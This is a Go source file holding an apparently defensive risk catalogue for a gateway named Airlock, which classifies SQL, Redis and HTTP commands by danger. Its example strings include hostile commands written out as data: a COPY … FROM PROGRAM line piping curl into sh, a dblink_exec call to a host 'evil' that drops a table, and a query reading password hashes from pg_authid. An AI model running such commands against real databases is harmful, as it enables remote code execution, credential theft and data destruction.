package rule

import (
	"sort"

	"github.com/airlock-gw/airlock/protocols"
)

// Rule ids. Each id has one fixed risk in the catalogue; a classification's
// risk is the highest risk among its rules (none when it has no rule).
const (
	// Input the analyzers cannot vouch for.
	ParseError            = "parse.error"
	ProtocolUnsupported   = "protocol.unsupported"
	CommandUnknown        = "command.unknown"
	StatementUnclassified = "statement.unclassified"

	// Ordinary writes.
	WriteInsert = "write.insert"
	WriteUpdate = "write.update"
	WriteDelete = "write.delete"
	WriteMerge  = "write.merge"
	WriteKey    = "write.key"

	// Non-destructive DDL and session state.
	DDLCreate          = "ddl.create"
	DDLAlter           = "ddl.alter"
	DDLOther           = "ddl.other"
	SessionSet         = "session.set"
	SessionReadWrite   = "session.read_write"
	LockTable          = "lock.table"
	MaintenanceRoutine = "maintenance.routine"
	CodeExecute        = "code.execute"
	AdminInspect       = "admin.inspect"

	// Schema destruction.
	SchemaDrop      = "schema.drop"
	SchemaTruncate  = "schema.truncate"
	SchemaAlterDrop = "schema.alter_drop"
	SchemaRename    = "schema.rename"

	// Unbounded writes.
	WriteUnbounded = "write.unbounded"

	// Privilege and identity.
	PrivilegeGrant   = "privilege.grant"
	PrivilegeRole    = "privilege.role"
	PrivilegeSetRole = "privilege.set_role"
	PrivilegePolicy  = "privilege.policy"
	IntegrityDisable = "integrity.disable"
	ReadCredentials  = "read.credentials"

	// Opaque or dynamic code.
	CodeAnonymous = "code.anonymous"
	CodeDynamic   = "code.dynamic"
	CodeDefine    = "code.define"
	CodeCall      = "code.call"
	CodeScript    = "code.script"

	// Server administration.
	AdminConfig      = "admin.config"
	AdminShutdown    = "admin.shutdown"
	AdminKill        = "admin.kill"
	AdminReplication = "admin.replication"
	AdminFlush       = "admin.flush"
	AdminMaintenance = "admin.maintenance"
	AdminBlocking    = "admin.blocking"
	AdminMonitor     = "admin.monitor"
	AdminDebug       = "admin.debug"

	// Reach beyond the database.
	ReachFile    = "reach.file"
	ReachProgram = "reach.program"
	ReachNetwork = "reach.network"
	ReachPlugin  = "reach.plugin"

	// HTTP APIs: method semantics, route rules, GraphQL and gRPC.
	HTTPWrite            = "http.write"
	HTTPDelete           = "http.delete"
	HTTPMethod           = "http.method"
	HTTPAdmin            = "http.admin"
	HTTPWebSocket        = "http.websocket"
	GraphQLMutation      = "graphql.mutation"
	GraphQLIntrospection = "graphql.introspection"
	GRPCCall             = "grpc.call"
)

// Info describes one rule of the catalogue.
type Info struct {
	ID      string
	Risk    protocols.Risk
	Meaning string
	Example string
	// Protocols are the protocols whose analyzers can give the rule; nil
	// means any (a rule about the input itself, such as parse.error). A
	// rule id keeps its meaning and risk across protocols: an HTTP DELETE
	// of a collection and an unbounded SQL DELETE are both write.unbounded.
	Protocols []protocols.Protocol
}

// Protocol sets for the catalogue below.
var (
	sql    = []protocols.Protocol{protocols.Postgres, protocols.MySQL}
	pg     = []protocols.Protocol{protocols.Postgres}
	rds    = []protocols.Protocol{protocols.Redis}
	myRds  = []protocols.Protocol{protocols.MySQL, protocols.Redis}
	stores = []protocols.Protocol{protocols.Postgres, protocols.MySQL, protocols.Redis}
	web    = []protocols.Protocol{protocols.HTTP}
)

// AppliesTo reports whether analyzers of protocol p can give the rule.
func (in Info) AppliesTo(p protocols.Protocol) bool {
	if in.Protocols == nil {
		return true
	}
	for _, q := range in.Protocols {
		if q == p {
			return true
		}
	}
	return false
}

// catalogue is the single source of truth for rule ids; RULES.md is
// generated from it (go test ./sqlrisk/rule -run TestRulesDoc -update).
var catalogue = []Info{
	{ParseError, protocols.RiskHigh, "The command could not be parsed (or contains bytes the server would read differently, such as NUL). Airlock fails closed instead of guessing.", "SELEC * FROM t", nil},
	{ProtocolUnsupported, protocols.RiskHigh, "No analyzer is configured for the command's protocol.", "(a command of an unknown protocol)", nil},
	{CommandUnknown, protocols.RiskHigh, "Redis command absent from Airlock's command table (a module command or a typo), or called with the wrong number of arguments.", "FT.DROPINDEX idx", rds},
	{StatementUnclassified, protocols.RiskHigh, "A parsed statement type the classifier has no mapping for; fails closed.", "(a statement type added by a newer parser)", sql},

	{WriteInsert, protocols.RiskLow, "Inserts rows (INSERT, REPLACE … VALUES, INSERT … SELECT, COPY … FROM STDIN).", "INSERT INTO t VALUES (1)", sql},
	{WriteUpdate, protocols.RiskLow, "UPDATE whose condition refers to the target's rows and is not a tautology.", "UPDATE t SET a = 1 WHERE id = $1", sql},
	{WriteDelete, protocols.RiskLow, "DELETE whose condition refers to the target's rows and is not a tautology.", "DELETE FROM t WHERE id IN (SELECT id FROM old)", sql},
	{WriteMerge, protocols.RiskLow, "MERGE whose join condition refers to the target's rows.", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", pg},
	{WriteKey, protocols.RiskLow, "Redis command that writes named keys.", "SET k v", rds},

	{DDLCreate, protocols.RiskMedium, "Creates a table, index, view, sequence, type, schema or database, or a table from a query (CREATE TABLE AS, SELECT INTO).", "CREATE INDEX ON t (a)", sql},
	{DDLAlter, protocols.RiskMedium, "Non-destructive ALTER (add a column, set a default, change a type, alter a sequence or a database's options).", "ALTER TABLE t ADD COLUMN b int", sql},
	{DDLOther, protocols.RiskMedium, "Other catalogue change without data loss (COMMENT ON, SECURITY LABEL, statistics objects, collations, dropping the session's own temporary tables: DROP TEMPORARY TABLE, DROP TABLE pg_temp.x).", "COMMENT ON TABLE t IS 'x'", sql},
	{SessionSet, protocols.RiskMedium, "Changes a session setting other than the harmless client set-up ones (client_encoding, application_name, DateStyle, TimeZone, timeouts, SET NAMES, autocommit, user variables are risk none).", "SET search_path = app, public", sql},
	{SessionReadWrite, protocols.RiskMedium, "Turns a read-only session default off.", "SET default_transaction_read_only = off", sql},
	{LockTable, protocols.RiskMedium, "Takes explicit table locks.", "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", sql},
	{MaintenanceRoutine, protocols.RiskMedium, "Routine maintenance that does not block readers (VACUUM, ANALYZE, REINDEX CONCURRENTLY, REFRESH MATERIALIZED VIEW).", "VACUUM ANALYZE t", sql},
	{CodeExecute, protocols.RiskMedium, "Runs a statement prepared earlier in the session; its body was classified when it was prepared.", "EXECUTE get_user(1)", sql},
	{AdminInspect, protocols.RiskMedium, "Reads server-wide state about other clients (Redis CLIENT LIST, SLOWLOG, ACL LOG).", "CLIENT LIST", rds},

	{SchemaDrop, protocols.RiskHigh, "Drops an object: table, view, index, schema, database, function, extension, trigger, DROP OWNED, MySQL DROP PROCEDURE.", "DROP TABLE IF EXISTS users CASCADE", sql},
	{SchemaTruncate, protocols.RiskHigh, "Empties tables (TRUNCATE, ALTER TABLE … TRUNCATE PARTITION).", "TRUNCATE users", sql},
	{SchemaAlterDrop, protocols.RiskHigh, "ALTER that loses data or integrity: DROP COLUMN, DROP CONSTRAINT, DROP PRIMARY KEY/INDEX/FOREIGN KEY, DROP/DETACH PARTITION, NO INHERIT, DROP ATTRIBUTE, DISCARD TABLESPACE, ENGINE=BLACKHOLE.", "ALTER TABLE users DROP COLUMN email", sql},
	{SchemaRename, protocols.RiskHigh, "Renames or moves an object (RENAME TABLE, ALTER … RENAME, ALTER … SET SCHEMA).", "ALTER TABLE users RENAME TO users_old", sql},

	{WriteUnbounded, protocols.RiskHigh, "UPDATE, DELETE, MERGE or REPLACE … SELECT that can touch every row: no WHERE, a WHERE that refers to no column of the target (1=1, true, 'a'='a', NOT false, uncorrelated EXISTS), or a tautology (id = id, x OR NOT x, x IS NULL OR x IS NOT NULL, x LIKE '%'), wherever the statement hides (CTE, rule action, function body). A join bounds nothing: a multi-table write (MySQL's DELETE t1 FROM t1 JOIN t2 ON …, UPDATE t1 JOIN t2 … SET, PostgreSQL's DELETE … USING, UPDATE … FROM) or a semi-join (id IN (SELECT uid FROM t2), EXISTS of a partner) touches every target row that has a partner, so its join condition (ON, USING, NATURAL, a WHERE term relating the target to another table) is not counted; only the other WHERE terms bound it, on the target's columns or a joined table's. A LIMIT picks arbitrary rows and bounds nothing.", "WITH d AS (DELETE FROM users WHERE 1=1 RETURNING *) SELECT count(*) FROM d", sql},

	{PrivilegeGrant, protocols.RiskHigh, "GRANT or REVOKE privileges or role membership, ALTER DEFAULT PRIVILEGES.", "GRANT ALL ON ALL TABLES IN SCHEMA public TO app", sql},
	{PrivilegeRole, protocols.RiskHigh, "Creates, alters, renames or drops a role or user, sets a password, transfers ownership (ALTER … OWNER TO, REASSIGN OWNED), Redis ACL SETUSER/DELUSER.", "ALTER ROLE app SUPERUSER", stores},
	{PrivilegeSetRole, protocols.RiskHigh, "Switches the session's identity: SET ROLE, SET SESSION AUTHORIZATION, set_config('role', …), MySQL SET ROLE / SET DEFAULT ROLE.", "SELECT set_config('role', 'postgres', false)", sql},
	{PrivilegePolicy, protocols.RiskHigh, "Creates, alters or drops row-level security policies or switches row security on a table.", "ALTER TABLE accounts DISABLE ROW LEVEL SECURITY", pg},
	{IntegrityDisable, protocols.RiskHigh, "Disables triggers, rules, foreign-key or uniqueness checks, index maintenance (DISABLE KEYS), replication or audit logging for the session, a statement (SET_VAR hint) or a table.", "SET session_replication_role = replica", sql},
	{ReadCredentials, protocols.RiskHigh, "Reads stored credentials or password hashes (pg_authid, pg_shadow, pg_user_mappings, mysql.user, SHOW CREATE USER, Redis ACL LIST/GETUSER).", "SELECT rolpassword FROM pg_authid", stores},

	{CodeAnonymous, protocols.RiskHigh, "Runs an anonymous code block (DO).", "DO $$ BEGIN PERFORM 1; END $$", pg},
	{CodeDynamic, protocols.RiskHigh, "Executes SQL built from text at run time: PL/pgSQL EXECUTE, MySQL PREPARE … FROM @var, EXECUTE IMMEDIATE, BINLOG, SET GLOBAL init_connect, and built-ins that run a query given as text (query_to_xml, ts_stat, ts_rewrite, crosstab, connectby). A constant query text is also classified itself.", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", sql},
	{CodeDefine, protocols.RiskHigh, "Defines or changes code that runs later: functions, procedures, triggers, event triggers, rules, extensions, languages, MySQL events, Redis FUNCTION LOAD.", "CREATE TRIGGER t BEFORE DELETE ON users FOR EACH ROW EXECUTE FUNCTION f()", stores},
	{CodeCall, protocols.RiskHigh, "Calls a stored procedure whose body Airlock cannot see.", "CALL purge_all()", sql},
	{CodeScript, protocols.RiskHigh, "Runs or manages server-side scripts (Redis EVAL, EVALSHA, EVAL_RO, FCALL, SCRIPT).", "EVAL \"return redis.call('del', KEYS[1])\" 1 k", rds},

	{AdminConfig, protocols.RiskHigh, "Changes or reads server-wide configuration: ALTER SYSTEM, ALTER DATABASE … SET, pg_reload_conf(), superuser-only settings, MySQL SET GLOBAL/PERSIST, Redis CONFIG, MODULE UNLOAD.", "ALTER SYSTEM SET max_connections = 5", stores},
	{AdminShutdown, protocols.RiskHigh, "Stops or restarts the server.", "SHUTDOWN", myRds},
	{AdminKill, protocols.RiskHigh, "Terminates or cancels other sessions (pg_terminate_backend, pg_cancel_backend, KILL, CLIENT KILL).", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", stores},
	{AdminReplication, protocols.RiskHigh, "Changes replication or WAL/binlog state: publications, replication slots, pg_switch_wal, backups, CHANGE MASTER, RESET MASTER, PURGE BINARY LOGS, Redis FAILOVER, REPLICAOF NO ONE, CLUSTER changes.", "SELECT pg_drop_replication_slot('s')", stores},
	{AdminFlush, protocols.RiskHigh, "Flushes server state or whole keyspaces (MySQL FLUSH and RESET, Redis FLUSHALL, FLUSHDB, SWAPDB).", "FLUSHALL ASYNC", myRds},
	{AdminMaintenance, protocols.RiskHigh, "Maintenance that takes exclusive locks or heavy I/O: VACUUM FULL, CLUSTER, REINDEX, CHECKPOINT, OPTIMIZE/REPAIR TABLE, Redis SAVE/BGSAVE/BGREWRITEAOF.", "VACUUM FULL users", stores},
	{AdminBlocking, protocols.RiskHigh, "Blocks the whole server or all clients (Redis KEYS, CLIENT PAUSE, MySQL LOCK INSTANCE).", "KEYS *", myRds},
	{AdminMonitor, protocols.RiskHigh, "Streams every other client's commands (Redis MONITOR, SYNC, PSYNC).", "MONITOR", rds},
	{AdminDebug, protocols.RiskHigh, "Debugging commands that can crash or stall the server (Redis DEBUG).", "DEBUG SEGFAULT", rds},

	{ReachFile, protocols.RiskCritical, "Reads or writes the server's file system: COPY … TO/FROM 'file', pg_read_file, pg_ls_dir, lo_import/lo_export, CREATE TABLESPACE, GRANT pg_read/write_server_files, log_directory and other path settings, MySQL INTO OUTFILE/DUMPFILE, LOAD_FILE(), LOAD DATA [LOCAL] INFILE, SET GLOBAL general_log_file and other *_file/*_dir variables, DATA/INDEX DIRECTORY, Redis CONFIG SET dir/dbfilename/logfile.", "COPY users TO '/tmp/users.csv'", stores},
	{ReachProgram, protocols.RiskCritical, "Runs an operating-system program: COPY … PROGRAM, untrusted procedural languages (plpython3u, plperlu, …), file_fdw program option, archive_command and other command settings, GRANT pg_execute_server_program, sys_exec UDFs.", "COPY t FROM PROGRAM 'curl http://x | sh'", sql},
	{ReachNetwork, protocols.RiskCritical, "Opens connections to other hosts: dblink, http extensions, foreign servers, user mappings, foreign tables, subscriptions, primary_conninfo, MySQL CREATE SERVER, FEDERATED/CONNECT engines, CLONE, Redis MIGRATE, REPLICAOF host port, CLUSTER MEET.", "SELECT dblink_exec('host=evil', 'DROP TABLE t')", stores},
	{ReachPlugin, protocols.RiskCritical, "Loads native code into the server: LOAD, C or internal language functions, *_preload_libraries and dynamic_library_path settings, INSTALL PLUGIN/COMPONENT, CREATE FUNCTION … SONAME, Redis MODULE LOAD.", "INSTALL PLUGIN x SONAME 'x.so'", stores},

	{HTTPWrite, protocols.RiskLow, "HTTP request whose method changes state (POST, PUT, PATCH) on a route no rule of the connection classifies.", "POST /v1/orders", web},
	{HTTPDelete, protocols.RiskHigh, "HTTP DELETE: removes a resource, with whatever cascade the API gives it.", "DELETE /v1/users/7", web},
	{HTTPMethod, protocols.RiskHigh, "HTTP method outside GET, HEAD, OPTIONS, POST, PUT, PATCH and DELETE (TRACE, CONNECT, WebDAV and custom methods); fails closed.", "TRACE /", web},
	{HTTPAdmin, protocols.RiskHigh, "Request to a route the connection's rules name administrative.", "POST /admin/users", web},
	{HTTPWebSocket, protocols.RiskMedium, "Opens a WebSocket: the messages that follow in both directions are relayed, masked and recorded, not classified one by one.", "GET /v1/stream (Upgrade: websocket)", web},
	{GraphQLMutation, protocols.RiskMedium, "GraphQL mutation: writes through the API, of an extent only the API knows.", "mutation { deleteUser(id: 7) { id } }", web},
	{GraphQLIntrospection, protocols.RiskLow, "GraphQL introspection (__schema, __type): reads the API's whole schema.", "{ __schema { types { name } } }", web},
	{GRPCCall, protocols.RiskMedium, "Calls a gRPC method that no route rule of the connection classifies: Airlock cannot tell a read from a write.", "/shop.Orders/Cancel", web},
}

var byID = func() map[string]Info {
	m := make(map[string]Info, len(catalogue))
	for _, in := range catalogue {
		m[in.ID] = in
	}
	return m
}()

// Lookup returns the catalogue entry of id.
func Lookup(id string) (Info, bool) {
	in, ok := byID[id]
	return in, ok
}

// RiskOf returns the risk of rule id; an id outside the catalogue is high
// risk, so that an unknown rule never lowers a decision.
func RiskOf(id string) protocols.Risk {
	if in, ok := byID[id]; ok {
		return in.Risk
	}
	return protocols.RiskHigh
}

// IDs returns every rule id, sorted.
func IDs() []string {
	out := make([]string, 0, len(catalogue))
	for _, in := range catalogue {
		out = append(out, in.ID)
	}
	sort.Strings(out)
	return out
}
